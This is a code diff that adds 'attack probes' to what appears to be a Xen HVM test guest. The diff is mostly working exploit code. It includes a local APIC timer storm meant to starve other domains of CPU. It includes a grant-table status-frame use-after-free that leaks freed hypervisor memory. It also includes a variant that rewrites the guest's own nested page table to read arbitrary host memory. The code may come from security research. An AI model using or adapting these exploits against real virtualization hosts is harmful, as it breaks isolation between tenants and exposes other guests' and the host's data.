@@ -21,6 +21,8 @@
 #include <xen/sched.h>
 #include <xen/vcpu.h>
 #include <xen/version.h>
+#include <xen/grant_table.h>
+
 
 void hvmtest_main(uint64_t start_info);
 void hvmtest_upcall(void);
@@ -694,6 +696,179 @@ static void probe_p2meat(const char *cmdline)
         hcall(__HYPERVISOR_memory_op, XENMEM_current_reservation, (uint64_t)(uintptr_t)&(domid_t){ DOMID_SELF }, 0, 0, 0));
 }
 
+/* ---- attack probes (branch atkhvm2) ---- */
+
+static uint64_t rdtsc(void)
+{
+    uint32_t lo, hi;
+    __asm__ volatile("rdtsc" : "=a"(lo), "=d"(hi));
+    return ((uint64_t)hi << 32) | lo;
+}
+#define TSC_CHUNK (1ULL << 31)
+
+/* mode=ticker: count loop iterations per TSC chunk (~1 s), secs= chunks:
+ * the share of the CPU this domain gets while another one storms. */
+static void probe_ticker(const char *cmdline)
+{
+    uint64_t n = hexopt(cmdline, "secs");
+    if (!n)
+        n = 0x20;
+    for (uint64_t c = 0; c < n; c++) {
+        uint64_t t0 = rdtsc(), it = 0;
+        while (rdtsc() - t0 < TSC_CHUNK)
+            it++;
+        say("hvmtest: ticker chunk %lu: %lu iterations", (unsigned long)c, (unsigned long)it);
+    }
+}
+
+/* mode=lapicstorm: the APIC timer at its fastest (periodic, divide by 1,
+ * initial count 1: a 1 ns period), LVT masked so nothing is ever
+ * injected; then phases of ~secs= chunks each: idle wait (baseline),
+ * a spin with IF=1, sti;hlt in a loop. */
+static void probe_lapicstorm(const char *cmdline)
+{
+    volatile uint8_t *apic = (volatile uint8_t *)(uintptr_t)0xfee00000UL;
+    uint64_t n = hexopt(cmdline, "secs");
+    if (!n)
+        n = 5;
+    uint64_t t0 = rdtsc(), it = 0;
+    while (rdtsc() - t0 < n * TSC_CHUNK)
+        it++;
+    say("hvmtest: lapicstorm: baseline %lu iterations", (unsigned long)it);
+    t0 = rdtsc(), it = 0;
+    while (rdtsc() - t0 < n * TSC_CHUNK) {
+        uint32_t r[4];
+        cpuid(0, 0, r);
+        it++;
+    }
+    say("hvmtest: lapicstorm: cpuid baseline %lu exits, timer on next", (unsigned long)it);
+    *(volatile uint32_t *)(apic + 0xf0) = 0x1ff;   /* SVR: enabled */
+    *(volatile uint32_t *)(apic + 0x320) = 0x300f0; /* LVT timer: periodic, masked */
+    *(volatile uint32_t *)(apic + 0x3e0) = 0xb;     /* divide by 1 */
+    *(volatile uint32_t *)(apic + 0x380) = 1;       /* initial count 1 */
+    __asm__ volatile("sti");
+    t0 = rdtsc(), it = 0;
+    while (rdtsc() - t0 < n * TSC_CHUNK)
+        it++;
+    say("hvmtest: lapicstorm: spin phase %lu iterations", (unsigned long)it);
+    t0 = rdtsc(), it = 0;
+    while (rdtsc() - t0 < n * TSC_CHUNK) {
+        uint32_t r[4];
+        cpuid(0, 0, r); /* an exit each: a new deadline, sched_raise_work, each time */
+        it++;
+    }
+    say("hvmtest: lapicstorm: cpuid phase %lu exits", (unsigned long)it);
+    t0 = rdtsc(), it = 0;
+    while (rdtsc() - t0 < n * TSC_CHUNK) {
+        __asm__ volatile("sti; hlt" ::: "memory");
+        it++;
+    }
+    say("hvmtest: lapicstorm: hlt phase %lu wakeups", (unsigned long)it);
+    __asm__ volatile("cli");
+    *(volatile uint32_t *)(apic + 0x380) = 0;
+    say("hvmtest: lapicstorm: timer off");
+}
+
+/* mode=gntst: a v2 status frame put in this domain's p2m
+ * (XENMAPIDX_grant_table_status), then set_version 1. Xen refuses (or
+ * takes the frame out of the p2m); if the hv frees the frame while it is
+ * still mapped, the guest's page at gfn= shows whoever gets it next: a
+ * populate in a new 2 MiB region makes the hv allocate p2m tables. */
+static void probe_gntst(const char *cmdline)
+{
+    uint64_t g = hexopt(cmdline, "gfn");
+    if (!g)
+        g = 0xe00;
+    struct gnttab_set_version sv = { .version = 2 };
+    long rc = hcall(__HYPERVISOR_grant_table_op, GNTTABOP_set_version, (uint64_t)(uintptr_t)&sv, 1, 0, 0);
+    say("hvmtest: gntst: set_version 2 = %ld (version %u)", rc, sv.version);
+    struct xen_add_to_physmap xatp = { .domid = DOMID_SELF, .space = XENMAPSPACE_grant_table,
+                                       .idx = 0 | XENMAPIDX_grant_table_status, .gpfn = g };
+    rc = hcall(__HYPERVISOR_memory_op, XENMEM_add_to_physmap, (uint64_t)(uintptr_t)&xatp, 0, 0, 0);
+    say("hvmtest: gntst: status frame 0 at gfn %#lx = %ld", (unsigned long)g, rc);
+    volatile uint64_t *pg = (volatile uint64_t *)(uintptr_t)(g << 12);
+    for (int i = 0; i < 512; i++)
+        pg[i] = 0xa5a5a5a5a5a5a5a5ULL;
+    sv.version = 1;
+    rc = hcall(__HYPERVISOR_grant_table_op, GNTTABOP_set_version, (uint64_t)(uintptr_t)&sv, 1, 0, 0);
+    say("hvmtest: gntst: set_version 1 with the status frame mapped = %ld (version %u)", rc, sv.version);
+    uint64_t base = 1ULL << 24;
+    for (uint64_t i = 0; i < 64; i++) {
+        xen_pfn_t x = base + (i << 9);
+        struct xen_memory_reservation r = { .nr_extents = 1, .extent_order = 0, .domid = DOMID_SELF };
+        set_xen_guest_handle(r.extent_start, &x);
+        long a = hcall(__HYPERVISOR_memory_op, XENMEM_populate_physmap, (uint64_t)(uintptr_t)&r, 0, 0, 0);
+        int changed = 0;
+        for (int k = 0; k < 512; k++)
+            if (pg[k] != 0xa5a5a5a5a5a5a5a5ULL)
+                changed = 1;
+        if (changed) {
+            say("LEAK hvmtest: gntst: after populate #%lu (rc %ld) the freed status frame at gfn %#lx changed:",
+                (unsigned long)i, a, (unsigned long)g);
+            for (int k = 0; k < 512; k++)
+                if (pg[k])
+                    say("hvmtest: gntst:   [%d] = %#lx", k, (unsigned long)pg[k]);
+            return;
+        }
+        if (a == 1) {
+            long d = hcall(__HYPERVISOR_memory_op, XENMEM_decrease_reservation, (uint64_t)(uintptr_t)&r, 0, 0, 0);
+            (void)d;
+        }
+    }
+    say("hvmtest: gntst: the page at gfn %#lx never changed", (unsigned long)g);
+}
+
+/* mode=gntst2: as gntst, but the freed status frame is made a nested page
+ * table: two pages of quota (RAM at gfn= and 0xf00 given up), then one
+ * order-1 populate at gfn 0x20000 (512 MiB, a new 2 MiB region inside
+ * the GiB this guest maps 1:1): the data takes an order-1 block, the new
+ * L1 table the freed frame. The guest then writes entry 2 of its own NPT
+ * (gfn 0x20002 -> host frame 0) and reads host memory there. */
+static void probe_gntst2(const char *cmdline)
+{
+    uint64_t g = hexopt(cmdline, "gfn");
+    if (!g)
+        g = 0xe00;
+    uint64_t target = hexopt(cmdline, "target");
+    {
+        xen_pfn_t x = 0xf00;
+        struct xen_memory_reservation r = { .nr_extents = 1, .extent_order = 0, .domid = DOMID_SELF };
+        set_xen_guest_handle(r.extent_start, &x);
+        say("hvmtest: gntst2: decrease gfn 0xf00 = %ld",
+            hcall(__HYPERVISOR_memory_op, XENMEM_decrease_reservation, (uint64_t)(uintptr_t)&r, 0, 0, 0));
+    }
+    struct gnttab_set_version sv = { .version = 2 };
+    long rc = hcall(__HYPERVISOR_grant_table_op, GNTTABOP_set_version, (uint64_t)(uintptr_t)&sv, 1, 0, 0);
+    struct xen_add_to_physmap xatp = { .domid = DOMID_SELF, .space = XENMAPSPACE_grant_table,
+                                       .idx = 0 | XENMAPIDX_grant_table_status, .gpfn = g };
+    rc = hcall(__HYPERVISOR_memory_op, XENMEM_add_to_physmap, (uint64_t)(uintptr_t)&xatp, 0, 0, 0);
+    say("hvmtest: gntst2: status frame 0 at gfn %#lx = %ld", (unsigned long)g, rc);
+    volatile uint64_t *pg = (volatile uint64_t *)(uintptr_t)(g << 12);
+    sv.version = 1;
+    rc = hcall(__HYPERVISOR_grant_table_op, GNTTABOP_set_version, (uint64_t)(uintptr_t)&sv, 1, 0, 0);
+    say("hvmtest: gntst2: set_version 1 = %ld", rc);
+    xen_pfn_t x = 0x20000;
+    struct xen_memory_reservation r = { .nr_extents = 1, .extent_order = 1, .domid = DOMID_SELF };
+    set_xen_guest_handle(r.extent_start, &x);
+    rc = hcall(__HYPERVISOR_memory_op, XENMEM_populate_physmap, (uint64_t)(uintptr_t)&r, 0, 0, 0);
+    say("hvmtest: gntst2: populate order 1 at gfn 0x20000 = %ld", rc);
+    for (int k = 0; k < 512; k++)
+        if (pg[k])
+            say("hvmtest: gntst2:   gfn %#lx [%d] = %#lx", (unsigned long)g, k, (unsigned long)pg[k]);
+    uint64_t e0 = pg[0];
+    if (!(e0 & 1)) {
+        say("hvmtest: gntst2: no NPT entry seen at gfn %#lx", (unsigned long)g);
+        return;
+    }
+    pg[2] = (e0 & ~0x000ffffffffff000ULL) | (target << 12);
+    volatile uint64_t *h = (volatile uint64_t *)(uintptr_t)0x20002000UL;
+    say("LEAK hvmtest: gntst2: wrote own NPT entry gfn 0x20002 -> host mfn %#lx; reading it:",
+        (unsigned long)target);
+    for (int k = 0; k < 8; k++)
+        say("hvmtest: gntst2:   host mfn %#lx +%#x = %#lx", (unsigned long)target, k * 8,
+            (unsigned long)h[k]);
+}
+
 void hvmtest_main(uint64_t start_info)
 {
     const struct hvm_start_info *si = (const struct hvm_start_info *)(uintptr_t)start_info;
@@ -728,6 +903,14 @@ void hvmtest_main(uint64_t start_info)
         probe_dr7hv(cmdline);
     else if (opt_is(cmdline, "mode", "p2meat"))
         probe_p2meat(cmdline);
+    else if (opt_is(cmdline, "mode", "ticker"))
+        probe_ticker(cmdline);
+    else if (opt_is(cmdline, "mode", "lapicstorm"))
+        probe_lapicstorm(cmdline);
+    else if (opt_is(cmdline, "mode", "gntst"))
+        probe_gntst(cmdline);
+    else if (opt_is(cmdline, "mode", "gntst2"))
+        probe_gntst2(cmdline);
     else if (opt_is(cmdline, "mode", "triple")) {
         say("hvmtest: triple fault next");
         load_idt(0);
